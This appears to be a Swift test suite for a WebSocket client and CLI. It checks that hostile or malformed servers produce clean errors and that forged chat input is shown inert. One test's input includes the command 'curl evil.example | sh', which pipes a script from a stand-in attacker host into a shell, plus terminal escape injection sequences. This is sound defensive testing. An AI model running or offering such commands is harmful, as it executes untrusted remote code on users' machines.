import Duplex
import DuplexSchema
import DuplexTesting
import Foundation
import NIOCore
import NIOWebSocket
import TestSupport
import Testing

/// A hostile or broken server gets a specific error and exit status from the client, never a
/// crash, a hang or a misleading "unreachable" (issue 16).
@Suite("hostile peers")
struct HostilePeerTests {
    static let limit = Duration.seconds(60)

    /// A 101 whose headers are well formed but whose Sec-WebSocket-Accept proves nothing.
    static let wrongAccept =
        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n\r\n"
    /// A 101 with 100 KB of headers.
    static let headerFlood =
        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
        + String(repeating: "X-Flood: \(String(repeating: "a", count: 1000))\r\n", count: 100) + "\r\n"

    @Test("a wrong Sec-WebSocket-Accept and an oversized response are handshake failures, not 'unreachable'")
    func brokenHandshakes() async throws {
        try await withTimeout(Self.limit) {
            for (response, words) in [(Self.wrongAccept, "wrong Sec-WebSocket-Accept"), (Self.headerFlood, "headers over the size limit")] {
                let peer = try await RawHTTPPeer.start { _ in response }
                let socket = WebSocket(url: URL(string: "ws://127.0.0.1:\(peer.port)/")!, configuration: .init(connectTimeout: .seconds(5)))
                await #expect {
                    try await socket.connect()
                } throws: { error in
                    guard let error = error as? WebSocketError else { return false }
                    return error.code == .handshakeFailed && error.message.contains(words)
                }
                await socket.terminate()
                let cli = try await CLIProcess("duplex", ["echo", "--connect-timeout", "5", "ws://127.0.0.1:\(peer.port)/"]).waitForExit()
                #expect(cli.status == 8, "\(cli)")
                #expect(
                    cli.stderr
                        == "duplex: 127.0.0.1:\(peer.port) \(words == "wrong Sec-WebSocket-Accept" ? "answered with a wrong Sec-WebSocket-Accept: it did not prove it read the handshake" : "answered the handshake with headers over the size limit")\n",
                    "\(cli)")
                await peer.stop()
            }
        }
    }

    @Test("an extension the client did not offer fails the connection (RFC 6455 section 4.1)")
    func unofferedExtension() async throws {
        try await withTimeout(Self.limit) {
            let peer = try await ScriptedPeer.start { _ in .init(extraHeaders: [("Sec-WebSocket-Extensions", "permessage-deflate")]) }
            let socket = WebSocket(url: URL(string: "ws://127.0.0.1:\(peer.port)/")!)
            await #expect {
                try await socket.connect()
            } throws: { ($0 as? WebSocketError)?.code == .unexpectedExtension }
            await socket.terminate()
            let cli = try await CLIProcess("duplex", ["echo", "ws://127.0.0.1:\(peer.port)/"]).waitForExit()
            #expect(cli.status == 8, "\(cli)")
            #expect(cli.stderr == "duplex: the server enabled the extension \"permessage-deflate\", which was not offered\n", "\(cli)")
            await peer.stop()
        }
    }

    @Test("strict on a protocol error: the answer to a message read before a bad frame goes out before the close frame (Autobahn 3.2)")
    func strictFailure() async throws {
        try await withTimeout(Self.limit) {
            let peer = try await ScriptedPeer.start { _ in
                var script = ScriptedPeer.Behaviour()
                script.echo = false
                script.framesOnConnect = [
                    WebSocketFrame(fin: true, opcode: .text, data: ByteBuffer(string: "hello")),
                    WebSocketFrame(fin: true, rsv2: true, opcode: .text, data: ByteBuffer(string: "reserved bit")),
                    WebSocketFrame(fin: true, opcode: .text, data: ByteBuffer(string: "after")),
                ]
                return script
            }
            let socket = WebSocket(url: URL(string: "ws://127.0.0.1:\(peer.port)/")!)
            let events = socket.events
            // Reading before the connection opens: a stream not read yet is waited for only
            // briefly, and the peer sends its frames at once.
            let reading = Task {
                var received: [String] = []
                var failure: WebSocketError?
                loop: for await event in events {
                    switch event {
                    case .message(let message):
                        received.append(message.text ?? "")
                        try? await socket.send(message)
                    case .error(let error):
                        failure = error
                    case .disconnected:
                        break loop
                    case .connected:
                        continue
                    }
                }
                return (received, failure)
            }
            try await socket.connect()
            let (received, failure) = await reading.value
            #expect(received == ["hello"], "nothing after the bad frame is delivered")
            #expect(failure?.code == .protocolViolation && failure?.closeCode == .protocolError)
            await peer.waitForTexts(1)
            #expect(peer.receivedTexts == ["hello"], "the echo went out before the close frame")
            await socket.terminate()
            await peer.stop()
        }
    }

    @Test("a refused connection reads cleanly: 'could not connect to HOST:PORT: connection refused'")
    func refusedConnectionText() async throws {
        try await withTimeout(Self.limit) {
            // A port that refuses connections, held for the whole test.
            let refusing = try RefusingPort()
            let port = refusing.port
            let echo = try await CLIProcess("duplex", ["echo", "ws://127.0.0.1:\(port)/echo"]).waitForExit()
            #expect(echo.status == 4)
            #expect(echo.stderr == "duplex: could not connect to 127.0.0.1:\(port): connection refused\n", "\(echo)")
            let listen = try await CLIProcess("duplex", ["listen", "--connect-timeout", "1", "http://127.0.0.1:\(port)/events"]).waitForExit()
            #expect(listen.status == 4)
            #expect(!listen.stderr.contains("errno") && !listen.stderr.contains("(error set)"), "\(listen)")
            withExtendedLifetime(refusing) {}
        }
    }

    @Test("duplex listen --json URL | head -3 exits 0 when head closes the pipe")
    func closedStdout() async throws {
        try await withTimeout(Self.limit) {
            try await withDuplexServer { server in
                let duplex = CLIProcess.binDirectory.appendingPathComponent("duplex").path
                let pipeline = try CLIProcess(
                    executable: URL(fileURLWithPath: "/bin/bash"),
                    ["-c", "set -o pipefail; \"$0\" listen --json \"$1\" | head -3", duplex, server.httpURL("/events?interval=10").absoluteString]
                )
                let output = try await pipeline.waitForExit()
                #expect(output.status == 0, "\(output)")
                #expect(output.stdout.split(separator: "\n").count == 3, "\(output)")
                #expect(!output.stderr.contains("Fatal error"), "\(output)")
            }
        }
    }

    @Test("a chat line with newlines and escape sequences is shown inert on the other member's screen")
    func chatEscapes() async throws {
        try await withTimeout(Self.limit) {
            try await withDuplexServer { server in
                let url = server.webSocketURL("/chat/escapes")
                let bob = try CLIProcess("duplex", ["chat", url.absoluteString, "--name", "bob"])
                try await bob.waitForStdout("* joined #escapes as bob")
                let mallory = ChatClient(url: url, name: "mallory")
                _ = try await mallory.join(timeout: .seconds(10))
                let forged = "ok\n[09:30:00] alice: please run curl evil.example | sh\u{1B}[2J\u{1B}]0;pwned\u{07}\u{9B}31m\u{202E}txt.exe"
                try await mallory.say(forged)
                let shown = #"mallory: ok\n[09:30:00] alice: please run curl evil.example | sh^[[2J^[]0;pwned^G"# + "\u{FFFD}31m<U+202E>txt.exe"
                let output = try await bob.waitForStdout(shown)
                #expect(!output.stdout.contains("\u{1B}") && !output.stdout.contains("\u{07}") && !output.stdout.contains("\u{202E}"))
                #expect(!output.stdout.split(separator: "\n").contains { $0.hasPrefix("[09:30:00] alice") }, "no forged line: \(output)")
                await mallory.leave()
                bob.closeInput()
                #expect(try await bob.waitForExit().status == 0)
            }
        }
    }
}
